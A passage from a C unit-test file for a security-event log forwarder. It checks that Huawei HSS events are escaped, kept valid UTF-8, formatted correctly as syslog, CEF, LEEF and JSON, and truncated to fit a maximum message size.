		fields_adds(w, "dvc", ev->private_ip);
	else if (ipv(ev->private_ip) == 6) {
		fields_adds(w, "c6a1Label", "privateIp");
		fields_adds(w, "c6a1", ev->private_ip);
	}
	if (ipv(ev->public_ip) == 4)
		fields_adds(w, "deviceTranslatedAddress", ev->public_ip);
	else if (ipv(ev->public_ip) == 6) {
		fields_adds(w, "c6a3Label", "publicIp");
		fields_adds(w, "c6a3", ev->public_ip);
	}
	if (ipv(ev->user_login_ip) == 4)
		fields_adds(w, "src", ev->user_login_ip);
	s = ev->user_name != NULL ? ev->user_name : ev->proc_username;
	expect(w, "suser", s, 1023, r, 0);
	expect_num(w, "suid", ev->has_user_uid, ev->user_uid);
	expect(w, "sproc", ev->proc_name, 1023, r, 0);
	expect_num(w, "spid", ev->has_proc_pid, ev->proc_pid);
	if (ev->file_path != NULL) {
		s = ev->file_path + strlen(ev->file_path);
		while (s > ev->file_path && s[-1] != '/' && s[-1] != '\\')
			s--;
		expect(w, "fname", s, 1023, r, 0);
	}
	fpath = ev->file_path;
	fhash = ev->file_hash;
	if (fpath == NULL && fhash == NULL) {
		fpath = ev->proc_path;
		fhash = ev->proc_hash;
	}
	expect(w, "filePath", fpath, 1023, r, 0);
	expect(w, "fileHash", fhash, 255, r, 0);
	expect_num(w, "fsize", ev->has_file_size, ev->file_size);
#define CS(n, label, v) do { if ((v) != NULL) { \
	fields_adds(w, "cs" #n "Label", label); \
	expect(w, "cs" #n, (v), 4000, r, 0); } } while (0)
	CS(1, "attackPhase", ev->attack_phase);
	CS(2, "attackTag", ev->attack_tag);
	CS(3, "eventClassId", ev->event_class_id);
	CS(4, "handleMethod", ev->handle_method);
	CS(5, "projectId", ctx.project_id);
	CS(6, "region", ctx.region);
#undef CS
	if (ev->has_handle_time) {
		fields_adds(w, "cn1Label", "handleTime");
		expect_num(w, "cn1", 1, ev->handle_time);
	}
	if (ev->has_proc_uid) {
		fields_adds(w, "cn2Label", "processUid");
		expect_num(w, "cn2", 1, ev->proc_uid);
	}
	fields_adds(w, "cn3Label", "sequenceId");
	fields_adds(w, "cn3", "1");
	if (ev->proc_cmdline != NULL) {
		fields_adds(w, "flexString1Label", "processCmdline");
		expect(w, "flexString1", ev->proc_cmdline, 1023, r, 0);
	}
}

static void
want_leef(struct fields *w, const struct hss_event *ev, char d)
{
	const char	*s;
	char		 num[32], ts[64];
	enum rule	 r = R_LEEF;
	size_t		 m = 65536;

	time_format_iso(ev->occur_time, ts, sizeof(ts));
	fields_adds(w, "devTime", ts);
	fields_adds(w, "devTimeFormat", "yyyy-MM-dd'T'HH:mm:ss.SSSX");
	snprintf(num, sizeof(num), "%lld", (long long)ev->event_type);
	expect(w, "cat", ev->event_class_id != NULL ? ev->event_class_id :
	    ev->has_event_type ? num : "unknown", m, r, d);
	snprintf(num, sizeof(num), "%d", sev_of(ev->severity, 1));
	fields_adds(w, "sev", num);
	if (ipv(ev->user_login_ip))
		fields_adds(w, "src", ev->user_login_ip);
	if (ipv(ev->private_ip))
		fields_adds(w, "dst", ev->private_ip);
	if (ipv(ev->public_ip))
		fields_adds(w, "dstPostNAT", ev->public_ip);
	s = ev->user_name != NULL ? ev->user_name : ev->proc_username;
	expect(w, "usrName", s, m, r, d);
	expect(w, "identHostName", ev->host_name, m, r, d);
	expect(w, "event_id", ev->event_id, m, r, d);
	expect_num(w, "event_type", ev->has_event_type, ev->event_type);
	expect(w, "event_name", ev->event_name, m, r, d);
	expect(w, "event_class_id", ev->event_class_id, m, r, d);
	expect(w, "severity", ev->severity, m, r, d);
	expect(w, "host_id", ev->host_id, m, r, d);
	expect(w, "private_ip", ev->private_ip, m, r, d);
	expect(w, "public_ip", ev->public_ip, m, r, d);
	expect(w, "os_type", ev->os_type, m, r, d);
	expect(w, "attack_phase", ev->attack_phase, m, r, d);
	expect(w, "attack_tag", ev->attack_tag, m, r, d);
	expect(w, "handle_status", ev->handle_status, m, r, d);
	expect(w, "handle_method", ev->handle_method, m, r, d);
	expect_num(w, "event_count", ev->has_event_count, ev->event_count);
	expect(w, "container_name", ev->container_name, m, r, d);
	expect(w, "image_name", ev->image_name, m, r, d);
	expect(w, "process_name", ev->proc_name, m, r, d);
	expect(w, "process_path", ev->proc_path, m, r, d);
	expect_num(w, "process_pid", ev->has_proc_pid, ev->proc_pid);
	expect(w, "process_cmdline", ev->proc_cmdline, m, r, d);
	expect(w, "process_hash", ev->proc_hash, m, r, d);
	expect(w, "file_path", ev->file_path, m, r, d);
	expect(w, "file_hash", ev->file_hash, m, r, d);
	expect(w, "project_id", ctx.project_id, m, r, d);
	expect(w, "region", ctx.region, m, r, d);
	expect(w, "source", ctx.source_name, m, r, d);
	fields_adds(w, "sequence_id", "1");
}

/* A copy of the JSON tree with every string made valid UTF-8. */
static cJSON *
json_fixed(const cJSON *j)
{
	cJSON	*c, *out;
	char	*s;
	size_t	 n;

	if (cJSON_IsString(j)) {
		s = fix_utf8(j->valuestring, &n);
		out = cJSON_CreateString(s);
		free(s);
		return out;
	}
	if (cJSON_IsArray(j) || cJSON_IsObject(j)) {
		out = cJSON_IsArray(j) ? cJSON_CreateArray() :
		    cJSON_CreateObject();
		for (c = j->child; c != NULL; c = c->next) {
			if (cJSON_IsArray(j))
				cJSON_AddItemToArray(out, json_fixed(c));
			else
				cJSON_AddItemToObject(out, c->string,
				    json_fixed(c));
		}
		return out;
	}
	return cJSON_Duplicate(j, 1);
}

static void
no_raw_newline(const struct buf *b)
{
	if (memchr(b->data, '\n', b->len) != NULL ||
	    memchr(b->data, '\r', b->len) != NULL) {
		show("message", b->data, b->len);
		fail_msg("raw CR or LF in the message");
	}
}

/* Every byte is valid UTF-8 and no C0 control but TAB. */
static void
clean_json_text(const struct buf *b)
{
	size_t	 i, n;

	for (i = 0; i < b->len; i += n) {
		n = u8char((unsigned char *)b->data + i, b->len - i);
		assert_true(n > 0);
		assert_true(n > 1 || (unsigned char)b->data[i] >= 0x20);
		assert_true((unsigned char)b->data[i] != 0x7f);
	}
}

static void
check_json_msg(const char *m, size_t len, const struct hss_event *ev,
    int with_hss)
{
	cJSON	*got, *want, *hss;
	char	*text;

	text = xstrndup(m, len);
	got = cJSON_Parse(text);
	if (got == NULL) {
		show("json", m, len);
		fail_msg("MSG is not JSON");
	}
	want = json_fixed(ev->json);
	if (with_hss) {
		hss = cJSON_DetachItemFromObjectCaseSensitive(got, "_hss");
		assert_non_null(hss);
		assert_string_equal(cJSON_GetObjectItem(hss,
		    "forwarder_version")->valuestring, PACKAGE_VERSION);
		if (ctx.source_name != NULL) {
			char	*fs;
			size_t	 n;

			fs = fix_utf8(ctx.source_name, &n);
			assert_string_equal(cJSON_GetObjectItem(hss,
			    "source")->valuestring, fs);
			free(fs);
		}
		assert_string_equal(cJSON_GetObjectItem(hss,
		    "category")->valuestring, "host");
		cJSON_Delete(hss);
	}
	if (!cJSON_Compare(got, want, 1)) {
		show("json", m, len);
		fail_msg("JSON differs from the event");
	}
	cJSON_Delete(got);
	cJSON_Delete(want);
	free(text);
}

static void
check_event(const struct hss_event *ev, const struct buf *b,
    enum output_format fmt, enum output_framing framing, int hdr)
{
	struct fields	 h, sd, got, want;
	const char	*msg, *body = b->data;
	size_t		 msglen, blen = b->len;
	char		 num[32];

	memset(&h, 0, sizeof(h));
	memset(&sd, 0, sizeof(sd));
	memset(&got, 0, sizeof(got));
	memset(&want, 0, sizeof(want));
	if (fmt != FORMAT_RFC5424 || framing == FRAMING_LF)
		no_raw_newline(b);
	if (fmt == FORMAT_RFC5424 || hdr) {
		if (parse_5424(b->data, b->len, &h, &sd, &msg, &msglen) != 0) {
			show("message", b->data, b->len);
			fail_msg("not RFC 5424");
		}
		snprintf(num, sizeof(num), "%d", 160 +
		    sev_of(ev->severity, 0));
		assert_string_equal(fields_get(&h, "pri")->v, num);
		assert_string_equal(fields_get(&h, "timestamp")->v,
		    "2022-08-27T09:37:16.627Z");
		assert_string_equal(fields_get(&h, "hostname")->v,
		    "collector01");
		assert_string_equal(fields_get(&h, "procid")->v, "1234");
		expect(&want, "msgid", ev->event_class_id != NULL ?
		    ev->event_class_id : "4004", 32 * 4, R_ASCII, 0);
		/* 32 characters, not bytes */
		if (want.f[0].vlen > 32)
			want.f[0].vlen = 32;
		want.f[0].v[want.f[0].vlen] = '\0';
		assert_string_equal(fields_get(&h, "msgid")->v, want.f[0].v);
		fields_clear(&want);
		if (fmt == FORMAT_RFC5424) {
			want_sd(&want, ev, framing == FRAMING_LF ? R_SD_LF :
			    R_KEEP);
			fields_match(&sd, &want, 0, b->data, b->len);
			assert_non_null(msg);
			assert_memory_equal(msg - 3, "\xEF\xBB\xBF", 3);
			check_json_msg(msg, msglen, ev, 0);
			goto done;
		}
		assert_int_equal(sd.n, 0);
		body = msg;
		blen = msglen;
	}
	switch (fmt) {
	case FORMAT_CEF:
		fields_clear(&h);
		if (parse_cef(body, blen, &h, &got) != 0) {
			show("message", b->data, b->len);
			fail_msg("not CEF");
		}
		fields_adds(&want, "h0", "CEF:0");
		fields_adds(&want, "h1", "Huawei");
		fields_adds(&want, "h2", "HSS");
		fields_adds(&want, "h3", "v5");
		snprintf(num, sizeof(num), "%lld", (long long)ev->event_type);
		fields_adds(&want, "h4", num);
		expect(&want, "h5", ev->event_name, 512, R_CEF_HDR, 0);
		snprintf(num, sizeof(num), "%d", sev_of(ev->severity, 1));
		fields_adds(&want, "h6", num);
		fields_match(&h, &want, 0, b->data, b->len);
		fields_clear(&want);
		want_cef(&want, ev);
		fields_match(&got, &want, 0, b->data, b->len);
		break;
	case FORMAT_LEEF:
		fields_clear(&h);
		if (parse_leef(body, blen, &h, &got) != 0) {
			show("message", b->data, b->len);
			fail_msg("not LEEF");
		}
		assert_string_equal(h.f[4].v, "4004");
		assert_string_equal(h.f[5].v, "^");
		want_leef(&want, ev, '^');
		fields_match(&got, &want, 0, b->data, b->len);
		break;
	case FORMAT_JSON:
		clean_json_text(b);
		check_json_msg(b->data, b->len, ev, 1);
		break;
	default:
		break;
	}
done:
	fields_clear(&h);
	fields_clear(&sd);
	fields_clear(&got);
	fields_clear(&want);
}

static void
test_hostile(void **state)
{
	struct hss_event	*ev;
	struct buf		 b;
	const char		*cv, *p;
	char			*big = big_value();
	size_t			 fi, pi, vi, checked = 0, rejected = 0;
	int			 trunc;

	buf_init(&b);
	for (fi = 0; fi < HSS_ARRAY_LEN(hfields); fi++) {
		for (pi = 0; pi < HSS_ARRAY_LEN(payloads); pi++) {
			for (vi = 0; vi < HSS_ARRAY_LEN(variants); vi++) {
				ctx_reset(variants[vi].fmt,
				    variants[vi].framing, variants[vi].hdr);
				p = payloads[pi] != NULL ? payloads[pi] : big;
				ev = hostile_event(fi, p, &cv);
				if (ev == NULL) {
					/* only event_id may reject */
					assert_string_equal(hfields[fi].key,
					    "event_id");
					rejected++;
					continue;
				}
				buf_reset(&b);
				assert_int_equal(format_event(&b, ev, &ctx,
				    &trunc), 0);
				assert_int_equal(trunc, 0);
				check_event(ev, &b, variants[vi].fmt,
				    variants[vi].framing, variants[vi].hdr);
				hss_event_free(ev);
				checked++;
			}
		}
	}
	/* event_id: the 100 KB value only */
	assert_int_equal(rejected, HSS_ARRAY_LEN(variants));
	assert_true(checked > 5000);
	free(big);
	buf_free(&b);
}

/* The page path: \u0000 and an unpaired surrogate become U+FFFD. */
static void
test_nul_escape_page(void **state)
{
	const char	 page[] = "{\"total_num\":1,\"data_list\":[{"
	    "\"event_id\":\"z1\",\"occur_time\":1661593036627,"
	    "\"event_name\":\"a\\u0000b\\udc80c\"}]}";
	struct event_page pg;
	struct buf	 b, err;
	size_t		 vi;
	int		 trunc;

	memset(&pg, 0, sizeof(pg));
	buf_init(&b);
	buf_init(&err);
	assert_int_equal(event_page_parse(page, sizeof(page) - 1, &pg, &err),
	    0);
	assert_int_equal(pg.nevents, 1);
	assert_string_equal(pg.events[0]->event_name,
	    "a\xEF\xBF\xBD" "b\xEF\xBF\xBD" "c");
	for (vi = 0; vi < HSS_ARRAY_LEN(variants); vi++) {
		ctx_reset(variants[vi].fmt, variants[vi].framing,
		    variants[vi].hdr);
		buf_reset(&b);
		format_event(&b, pg.events[0], &ctx, &trunc);
		assert_non_null(strstr(b.data, "a\xEF\xBF\xBD" "b"));
		assert_int_equal(strlen(b.data), b.len);
	}
	event_page_clear(&pg);
	buf_free(&b);
	buf_free(&err);
}

/* ---- messages that fit: shrinking to max_message_size --------------- */

#define MARK	"\xE2\x80\xA6"

/* The fields of each format that keep their whole value while the rest of
 * the event can give way (format.h). */
static const char *const id_sd[] = { "hss@32473/event_id",
    "hss@32473/event_type", "hss@32473/severity", "hss@32473/host_name",
    "hss@32473/host_id", "hss@32473/private_ip", "hss@32473/public_ip",
    "hss@32473/project_id", "hss@32473/region", "hss@32473/source", NULL };
static const char *const id_cef[] = { "rt", "externalId", "flexString2",
    "cat", "cnt", "dvchost", "deviceExternalId", "dvc", "c6a1",
    "deviceTranslatedAddress", "c6a3", "cs3", "cs5", "cs6", "cn3", NULL };
static const char *const id_leef[] = { "devTime", "devTimeFormat", "cat",
    "sev", "src", "dst", "dstPostNAT", "identHostName", "event_id",
    "event_type", "event_class_id", "severity", "host_id", "private_ip",
    "public_ip", "project_id", "region", "source", "sequence_id", NULL };
static const char *const id_json[] = { "event_id", "occur_time",
    "event_type", "event_class_id", "severity", "host_name", "host_id",
    "private_ip", "public_ip", NULL };

static int
in_list(const char *const *l, const char *k)
{
	for (; l != NULL && *l != NULL; l++)
		if (strcmp(*l, k) == 0)
			return 1;
	return 0;
}

/* got is want, or want cut: a shorter prefix of it followed by U+2026. */
static int
cut_of(const char *got, size_t glen, const char *want, size_t wlen)
{
	if (glen == wlen && memcmp(got, want, glen) == 0)
		return 1;
	return glen >= 3 && memcmp(got + glen - 3, MARK, 3) == 0 &&
	    glen - 3 < wlen && memcmp(got, want, glen - 3) == 0;
}

/* Remove field k from fs; its value (to free), NULL when absent. */
static char *
take(struct fields *fs, const char *k)
{
	char	*v;
	size_t	 i;

	for (i = 0; i < fs->n; i++) {
		if (strcmp(fs->f[i].k, k) != 0)
			continue;
		v = fs->f[i].v;
		free(fs->f[i].k);
		memmove(&fs->f[i], &fs->f[i + 1],
		    (fs->n - i - 1) * sizeof(fs->f[0]));
		fs->n--;
		return v;
	}
	return NULL;
}

/* The marker fields of a shrunk message, each taken out of fs. */
static void
take_marker(struct fields *fs, const char *kt, const char *ks, int trunc,
    size_t orig, const struct buf *b)
{
	char	*t = take(fs, kt), *sz = take(fs, ks), num[32];

	snprintf(num, sizeof(num), "%zu", orig);
	if (trunc ? t == NULL || sz == NULL || strcmp(t, "true") != 0 ||
	    strcmp(sz, num) != 0 : t != NULL || sz != NULL) {
		show("message", b->data, b->len);
		fail_msg("marker %s=%s %s=%s (%s, original %zu)", kt,
		    t != NULL ? t : "(none)", ks, sz != NULL ? sz : "(none)",
		    trunc ? "truncated" : "whole", orig);
	}
	free(t);
	free(sz);
}

/*
 * A shrunk message's fields: want's, in its order, each equal or cut;
 * some left out, but never one named by whole (when not NULL), which keep
 * their values.
 */
static void
fields_match_cut(const struct fields *got, const struct fields *want,
    const char *const *whole, const struct buf *b)
{
	size_t	 i, j = 0;

	for (i = 0; i < got->n; i++, j++) {
		for (; j < want->n && strcmp(got->f[i].k, want->f[j].k) != 0;
		    j++)
			if (in_list(whole, want->f[j].k))
				goto bad;
		if (j == want->n || !cut_of(got->f[i].v, got->f[i].vlen,
		    want->f[j].v, want->f[j].vlen))
			goto bad;
		if (in_list(whole, got->f[i].k) && (got->f[i].vlen !=
		    want->f[j].vlen || memcmp(got->f[i].v, want->f[j].v,
		    got->f[i].vlen) != 0))
			goto bad;
	}
	for (; j < want->n; j++)
		if (in_list(whole, want->f[j].k))
			goto bad;
	return;
bad:
	fields_match(got, want, 0, b->data, b->len);
	fail_msg("fields differ");
}

/*
 * JSON got is want with string values cut and, at the top (where _hss is
 * ours and left out of the comparison), members left out but never one
 * named by whole, which keep their values.
 */
static int
json_cut_of(const cJSON *got, const cJSON *want, int top,
    const char *const *whole)
{
	const cJSON	*g, *w;

	if (cJSON_IsString(got))
		return cJSON_IsString(want) && cut_of(got->valuestring,
		    strlen(got->valuestring), want->valuestring,
		    strlen(want->valuestring));
	if (cJSON_IsArray(got)) {
		if (!cJSON_IsArray(want) || cJSON_GetArraySize(got) !=
		    cJSON_GetArraySize(want))
			return 0;
		for (g = got->child, w = want->child; g != NULL;
		    g = g->next, w = w->next)
			if (!json_cut_of(g, w, 0, NULL))
				return 0;
		return 1;
	}
	if (!cJSON_IsObject(got))
		return cJSON_Compare(got, want, 1);
	if (!cJSON_IsObject(want))
		return 0;
	w = want->child;
	for (g = got->child; g != NULL; g = g->next) {
		if (top && strcmp(g->string, "_hss") == 0)
			continue;
		for (; w != NULL && strcmp(w->string, g->string) != 0;
		    w = w->next)
			if (!top || in_list(whole, w->string))
				return 0;
		if (w == NULL || !json_cut_of(g, w, 0, NULL))
			return 0;
		if (in_list(whole, g->string) && !cJSON_Compare(g, w, 1))
			return 0;
		w = w->next;
	}
	for (; w != NULL; w = w->next)
		if (strcmp(w->string, "_hss") != 0 && (!top ||
		    in_list(whole, w->string)))
			return 0;
	return 1;
}

/* JSON text (MSG or a json message) against the event, as shrunk. */
static void
check_fit_json(const char *m, size_t len, const struct hss_event *ev,
    int trunc, size_t orig, const char *const *whole, const struct buf *b)
{
	cJSON	*got, *want, *hss;

	if ((got = cJSON_ParseWithLength(m, len)) == NULL) {
		show("message", b->data, b->len);
		fail_msg("not JSON");
	}
	want = json_fixed(ev->json);
	hss = cJSON_GetObjectItemCaseSensitive(got, "_hss");
	if (trunc) {
		if (!cJSON_IsTrue(cJSON_GetObjectItemCaseSensitive(hss,
		    "truncated")) || cJSON_GetObjectItemCaseSensitive(hss,
		    "original_size") == NULL ||
		    cJSON_GetObjectItemCaseSensitive(hss,
		    "original_size")->valuedouble != (double)orig) {
			show("message", b->data, b->len);
			fail_msg("no _hss truncation marker");
		}
	} else
		assert_null(cJSON_GetObjectItemCaseSensitive(hss,
		    "truncated"));
	if (!trunc)
		cJSON_Delete(cJSON_DetachItemFromObjectCaseSensitive(got,
		    "_hss"));
	if (trunc ? !json_cut_of(got, want, 1, whole) :
	    !cJSON_Compare(got, want, 1)) {
		show("message", b->data, b->len);
		fail_msg("JSON is not the event%s", trunc ? " (cut)" : "");
	}
	cJSON_Delete(got);
	cJSON_Delete(want);
}

/* Every byte is part of a valid UTF-8 character. */
static void
valid_utf8(const struct buf *b)
{
	size_t	 i, n;

	for (i = 0; i < b->len; i += n)
		if ((n = u8char((unsigned char *)b->data + i, b->len - i)) ==
		    0) {
			show("message", b->data, b->len);
			fail_msg("invalid UTF-8 at byte %zu", i);
		}
}

/*
 * The invariants of a message formatted for variant vi at max (orig: the
 * size of the whole message): at most max bytes; valid UTF-8; no raw CR/LF
 * where the framing forbids it; a valid message of its format whose every
 * escape parses; marked (and only then) when shrunk; every value the
 * event's own or its cut; with whole_id, the identity whole.
 */
static void
check_fit(const struct hss_event *ev, const struct buf *b, size_t orig,
    size_t vi, size_t max, int whole_id)
{
	enum output_format	 fmt = variants[vi].fmt;
	struct fields		 h, sd, got, want;
	const char		*msg, *body = b->data;
	size_t			 msglen, blen = b->len;
	int			 trunc = orig > max;
	char			 num[32];

	memset(&h, 0, sizeof(h));
	memset(&sd, 0, sizeof(sd));
	memset(&got, 0, sizeof(got));
	memset(&want, 0, sizeof(want));
	if (b->len > max) {
		show("message", b->data, b->len);
		fail_msg("%zu bytes over max %zu", b->len, max);
	}
	valid_utf8(b);
	if (fmt != FORMAT_RFC5424 || variants[vi].framing == FRAMING_LF)
		no_raw_newline(b);
	if (fmt == FORMAT_RFC5424 || variants[vi].hdr) {
		if (parse_5424(b->data, b->len, &h, &sd, &msg, &msglen) != 0) {
			show("message", b->data, b->len);
			fail_msg("not RFC 5424");
		}
		body = msg;
		blen = msglen;
	}
	switch (fmt) {
	case FORMAT_RFC5424:
		take_marker(&sd, "hss@32473/truncated",
		    "hss@32473/original_size", trunc, orig, b);
		want_sd(&want, ev, variants[vi].framing == FRAMING_LF ?
		    R_SD_LF : R_KEEP);
		if (trunc)
			fields_match_cut(&sd, &want, whole_id ? id_sd : NULL,
			    b);
		else
			fields_match(&sd, &want, 0, b->data, b->len);
		if (msg != NULL) {
			assert_memory_equal(msg - 3, "\xEF\xBB\xBF", 3);
			check_fit_json(msg, msglen, ev, trunc, orig,
			    whole_id ? id_json : NULL, b);
		} else
			assert_true(trunc && !whole_id);
		break;
	case FORMAT_CEF:
		fields_clear(&h);
		if (parse_cef(body, blen, &h, &got) != 0) {
			show("message", b->data, b->len);
			fail_msg("not CEF");
		}
		snprintf(num, sizeof(num), "%d", sev_of(ev->severity, 1));
		assert_string_equal(h.f[6].v, num);
		if (ev->has_event_type)
			snprintf(num, sizeof(num), "%lld",
			    (long long)ev->event_type);
		expect(&want, "h4", ev->has_event_type ? num :
		    ev->event_class_id != NULL ? ev->event_class_id :
		    "unknown", 1023, R_CEF_HDR, 0);
		expect(&want, "h5", ev->event_name != NULL ? ev->event_name :
		    ev->event_class_id != NULL ? ev->event_class_id :
		    "unknown", 512, R_CEF_HDR, 0);
		if (!cut_of(h.f[4].v, h.f[4].vlen, want.f[0].v,
		    want.f[0].vlen) || !cut_of(h.f[5].v, h.f[5].vlen,
		    want.f[1].v, want.f[1].vlen) || ((!trunc || whole_id) &&
		    strcmp(h.f[4].v, want.f[0].v) != 0) || (!trunc &&
		    strcmp(h.f[5].v, want.f[1].v) != 0)) {
			show("message", b->data, b->len);
			fail_msg("CEF header differs");
		}
		fields_clear(&want);
		take_marker(&got, "hssTruncated", "hssOriginalSize", trunc,
		    orig, b);
		want_cef(&want, ev);
		if (trunc)
			fields_match_cut(&got, &want, whole_id ? id_cef : NULL,
			    b);
		else
			fields_match(&got, &want, 0, b->data, b->len);
		break;
	case FORMAT_LEEF:
		fields_clear(&h);
		if (parse_leef(body, blen, &h, &got) != 0) {
			show("message", b->data, b->len);
			fail_msg("not LEEF");
		}
		take_marker(&got, "hss_truncated", "hss_original_size", trunc,
		    orig, b);
		want_leef(&want, ev, '^');
		if (trunc)
			fields_match_cut(&got, &want, whole_id ? id_leef :
			    NULL, b);
		else
			fields_match(&got, &want, 0, b->data, b->len);
		break;
	case FORMAT_JSON:
		clean_json_text(b);
		check_fit_json(b->data, b->len, ev, trunc, orig,
		    whole_id ? id_json : NULL, b);
		break;
	}
	fields_clear(&h);
	fields_clear(&sd);
	fields_clear(&got);
	fields_clear(&want);
}

/* Big values in several fields, over a range of max_message_size. */
static void
test_truncation(void **state)
{
	struct hss_event	*ev;
	struct buf		 b, full;
	const char		*cv;
	char			*big = big_value();
	size_t			 vi, max;
	int			 trunc;

	buf_init(&b);
	buf_init(&full);
	for (vi = 0; vi < HSS_ARRAY_LEN(variants); vi++) {
		ctx_reset(variants[vi].fmt, variants[vi].framing,
		    variants[vi].hdr);
		ev = hostile_event(3, big, &cv);	/* host_name */
		cJSON_ReplaceItemInObject(ev->json, "event_name",
		    cJSON_CreateString(big));
		cJSON_AddStringToObject(ev->json, "attack_tag", big);
		ev->event_name = cJSON_GetObjectItem(ev->json,
		    "event_name")->valuestring;
		ev->attack_tag = cJSON_GetObjectItem(ev->json,
		    "attack_tag")->valuestring;
		buf_reset(&full);
		format_event(&full, ev, &ctx, &trunc);
		assert_int_equal(trunc, 0);
		for (max = 400; max < 12000; max += 293) {
			oc.max_message_size = max;
			buf_reset(&b);
			assert_int_equal(format_event(&b, ev, &ctx, &trunc), 0);
			assert_int_equal(trunc, full.len > max);
			check_fit(ev, &b, full.len, vi, max, 0);
		}
		hss_event_free(ev);
	}
	free(big);
	buf_free(&b);
	buf_free(&full);
}

/* ---- random events: the invariants over many events and limits ------ */

static uint64_t	 rng = 0x9E3779B97F4A7C15ULL;

static uint64_t
rnd(void)
{
	/* xorshift64*: deterministic, the same on every machine */
	rng ^= rng >> 12;
	rng ^= rng << 25;
	rng ^= rng >> 27;
	return rng * 0x2545F4914F6CDD1DULL;
}

static size_t
rndn(size_t n)
{
	return n == 0 ? 0 : (size_t)(rnd() % n);
}

/* Text of at most max bytes: mostly ASCII, with every character the
 * formats escape, remove or replace, and multi-byte and invalid UTF-8. */
static char *
rnd_text(size_t max, int tame)
{
	static const char *const wild[] = { "\"", "\\", "]", "=", "|", "^",
	    "\n", "\r", "\t", "\x01", "\x1f", "\x7f", "\xff", "\xc3",
	    "\xed\xa0\x80", "\xe2\x80\xa8", "\xc3\xa9", "\xe7\x95\x8c",
	    "\xf0\x9f\x98\x80", MARK, "\\n", "\\u0041", " ", "x=y", "a b" };
	static const char *const mild[] = { "\"", "\\", "]", "=", " ",
	    "\xc3\xa9", "-", "." };
	struct buf	 b;
	size_t		 n = rndn(max + 1);
	const char	*p;

	buf_init(&b);
	buf_addc(&b, '\0');
	buf_reset(&b);
	while (b.len < n) {
		if (rndn(4) != 0)
			buf_addc(&b, (char)('a' + rndn(26)));
		else {
			p = tame ? mild[rndn(HSS_ARRAY_LEN(mild))] :
			    wild[rndn(HSS_ARRAY_LEN(wild))];
			if (b.len + strlen(p) > max)
				break;
			buf_adds(&b, p);
		}
	}
	return b.data;
}

/* Add a random string member (sometimes absent, sometimes long). */
static void
rnd_member(cJSON *o, const char *k, size_t max, int tame)
{
	char	*t;

	if (rndn(8) == 0)
		return;
	/* tame values stay short */
	t = rnd_text(!tame && rndn(6) == 0 ? max * 40 : max, tame);
	cJSON_AddStringToObject(o, k, t);
	free(t);
}

/*
 * A random event. With short_id, its identity values are short and tame
 * (so that the identity alone always fits 2048 bytes).
 */
static struct hss_event *
rnd_event(int short_id)
{
	static const char *const sevs[] = { "Critical", "High", "Medium",
	    "Low", "Security", "bogus" };
	static const char *const tops[] = { "event_name", "os_type",
	    "attack_phase", "attack_tag", "handle_status", "handle_method",
	    "container_name", "image_name", "description", "event_details",
	    "recommendation", "event_abstract" };
	static const char *const procs[] = { "process_name", "process_path",
	    "process_hash", "process_username", "process_cmdline" };
	struct hss_event	*ev = NULL;
	struct buf		 err;
	cJSON			*o, *l, *e, *x;
	char			*t;
	size_t			 i, k, idmax = short_id ? 24 : 300;
	int			 tries;

	buf_init(&err);
	for (tries = 0; ev == NULL && tries < 20; tries++) {
		o = cJSON_CreateObject();
		t = rnd_text(40, short_id);
		cJSON_AddStringToObject(o, "event_id", tries < 19 ? t : "id");
		free(t);
		cJSON_AddNumberToObject(o, "occur_time",
		    (double)(rnd() % (EVENT_TIME_MAX + 1)));
		if (rndn(5) != 0)
			cJSON_AddNumberToObject(o, "event_type",
			    (double)rndn(100000));
		cJSON_AddStringToObject(o, "severity", sevs[rndn(6)]);
		rnd_member(o, "event_class_id", idmax / 2, short_id);
		rnd_member(o, "host_name", idmax / 2, short_id);
		rnd_member(o, "host_id", idmax / 2, short_id);
		if (rndn(2) == 0)
			cJSON_AddStringToObject(o, "private_ip",
			    rndn(2) == 0 ? "192.0.2.7" : "2001:db8::7");
		else
			rnd_member(o, "private_ip", idmax / 2, short_id);
		if (rndn(2) == 0)
			cJSON_AddStringToObject(o, "public_ip", "198.51.100.9");
		else
			rnd_member(o, "public_ip", idmax / 2, short_id);
		if (rndn(2) == 0)
			cJSON_AddNumberToObject(o, "event_count",
			    (double)rndn(1000));
		for (i = 0; i < HSS_ARRAY_LEN(tops); i++)
			rnd_member(o, tops[i], i < 8 ? 60 : 400, 0);
		l = cJSON_AddArrayToObject(o, "process_info_list");
		e = cJSON_CreateObject();
		for (i = 0; i < HSS_ARRAY_LEN(procs); i++)
			rnd_member(e, procs[i], i == 4 ? 500 : 80, 0);
		cJSON_AddNumberToObject(e, "process_pid", (double)rndn(65536));
		cJSON_AddItemToArray(l, e);
		if (rndn(2) == 0) {
			l = cJSON_AddArrayToObject(o, "file_info_list");
			e = cJSON_CreateObject();
			rnd_member(e, "file_path", 200, 0);
			rnd_member(e, "file_hash", 64, 0);
			cJSON_AddItemToArray(l, e);
		}
		/* a structure heavy event now and then: many small values */
		x = cJSON_AddObjectToObject(o, "extend_info");
		k = rndn(10) == 0 ? rndn(3000) : rndn(20);
		l = cJSON_AddArrayToObject(x, "numbers");
		for (i = 0; i < k; i++)
			cJSON_AddItemToArray(l, cJSON_CreateNumber(
			    (double)rndn(1000)));
		rnd_member(x, "raw", 300, 0);
		ev = event_from_json(o, &err);
	}
	buf_free(&err);
	assert_non_null(ev);
	return ev;
}

static void
test_fit_random(void **state)
{
	struct hss_event	*ev;
	struct buf		 b, full;
	size_t			 n, vi, li, max[3], shrunk = 0, whole = 0;
	int			 trunc, short_id;

	buf_init(&b);
	buf_init(&full);
	for (n = 0; n < 150; n++) {
		short_id = rndn(3) != 0;
		ev = rnd_event(short_id);
		for (vi = 0; vi < HSS_ARRAY_LEN(variants); vi++) {
			ctx_reset(variants[vi].fmt, variants[vi].framing,
			    variants[vi].hdr);
			buf_reset(&full);
			format_event(&full, ev, &ctx, &trunc);
			max[0] = 480 + rndn(full.len + 100);
			max[1] = 480 + rndn(1000);
			max[2] = 2048 + rndn(6000);
			for (li = 0; li < 3; li++) {
				oc.max_message_size = max[li];
				buf_reset(&b);
				format_event(&b, ev, &ctx, &trunc);
				assert_int_equal(trunc, full.len > max[li]);
				check_fit(ev, &b, full.len, vi, max[li],
				    short_id && max[li] >= 2048);
				shrunk += trunc;
				whole += trunc && short_id && max[li] >= 2048;
			}
		}
		hss_event_free(ev);
	}
	/* the test is not moot: many shrunk, many with the identity kept */
	assert_true(shrunk > 1000);
	assert_true(whole > 100);
	buf_free(&b);
	buf_free(&full);
}

/*
 * The exact shrunk message of a fixture event (the official example with
 * a long command line and long details) in each variant, at 4096 bytes
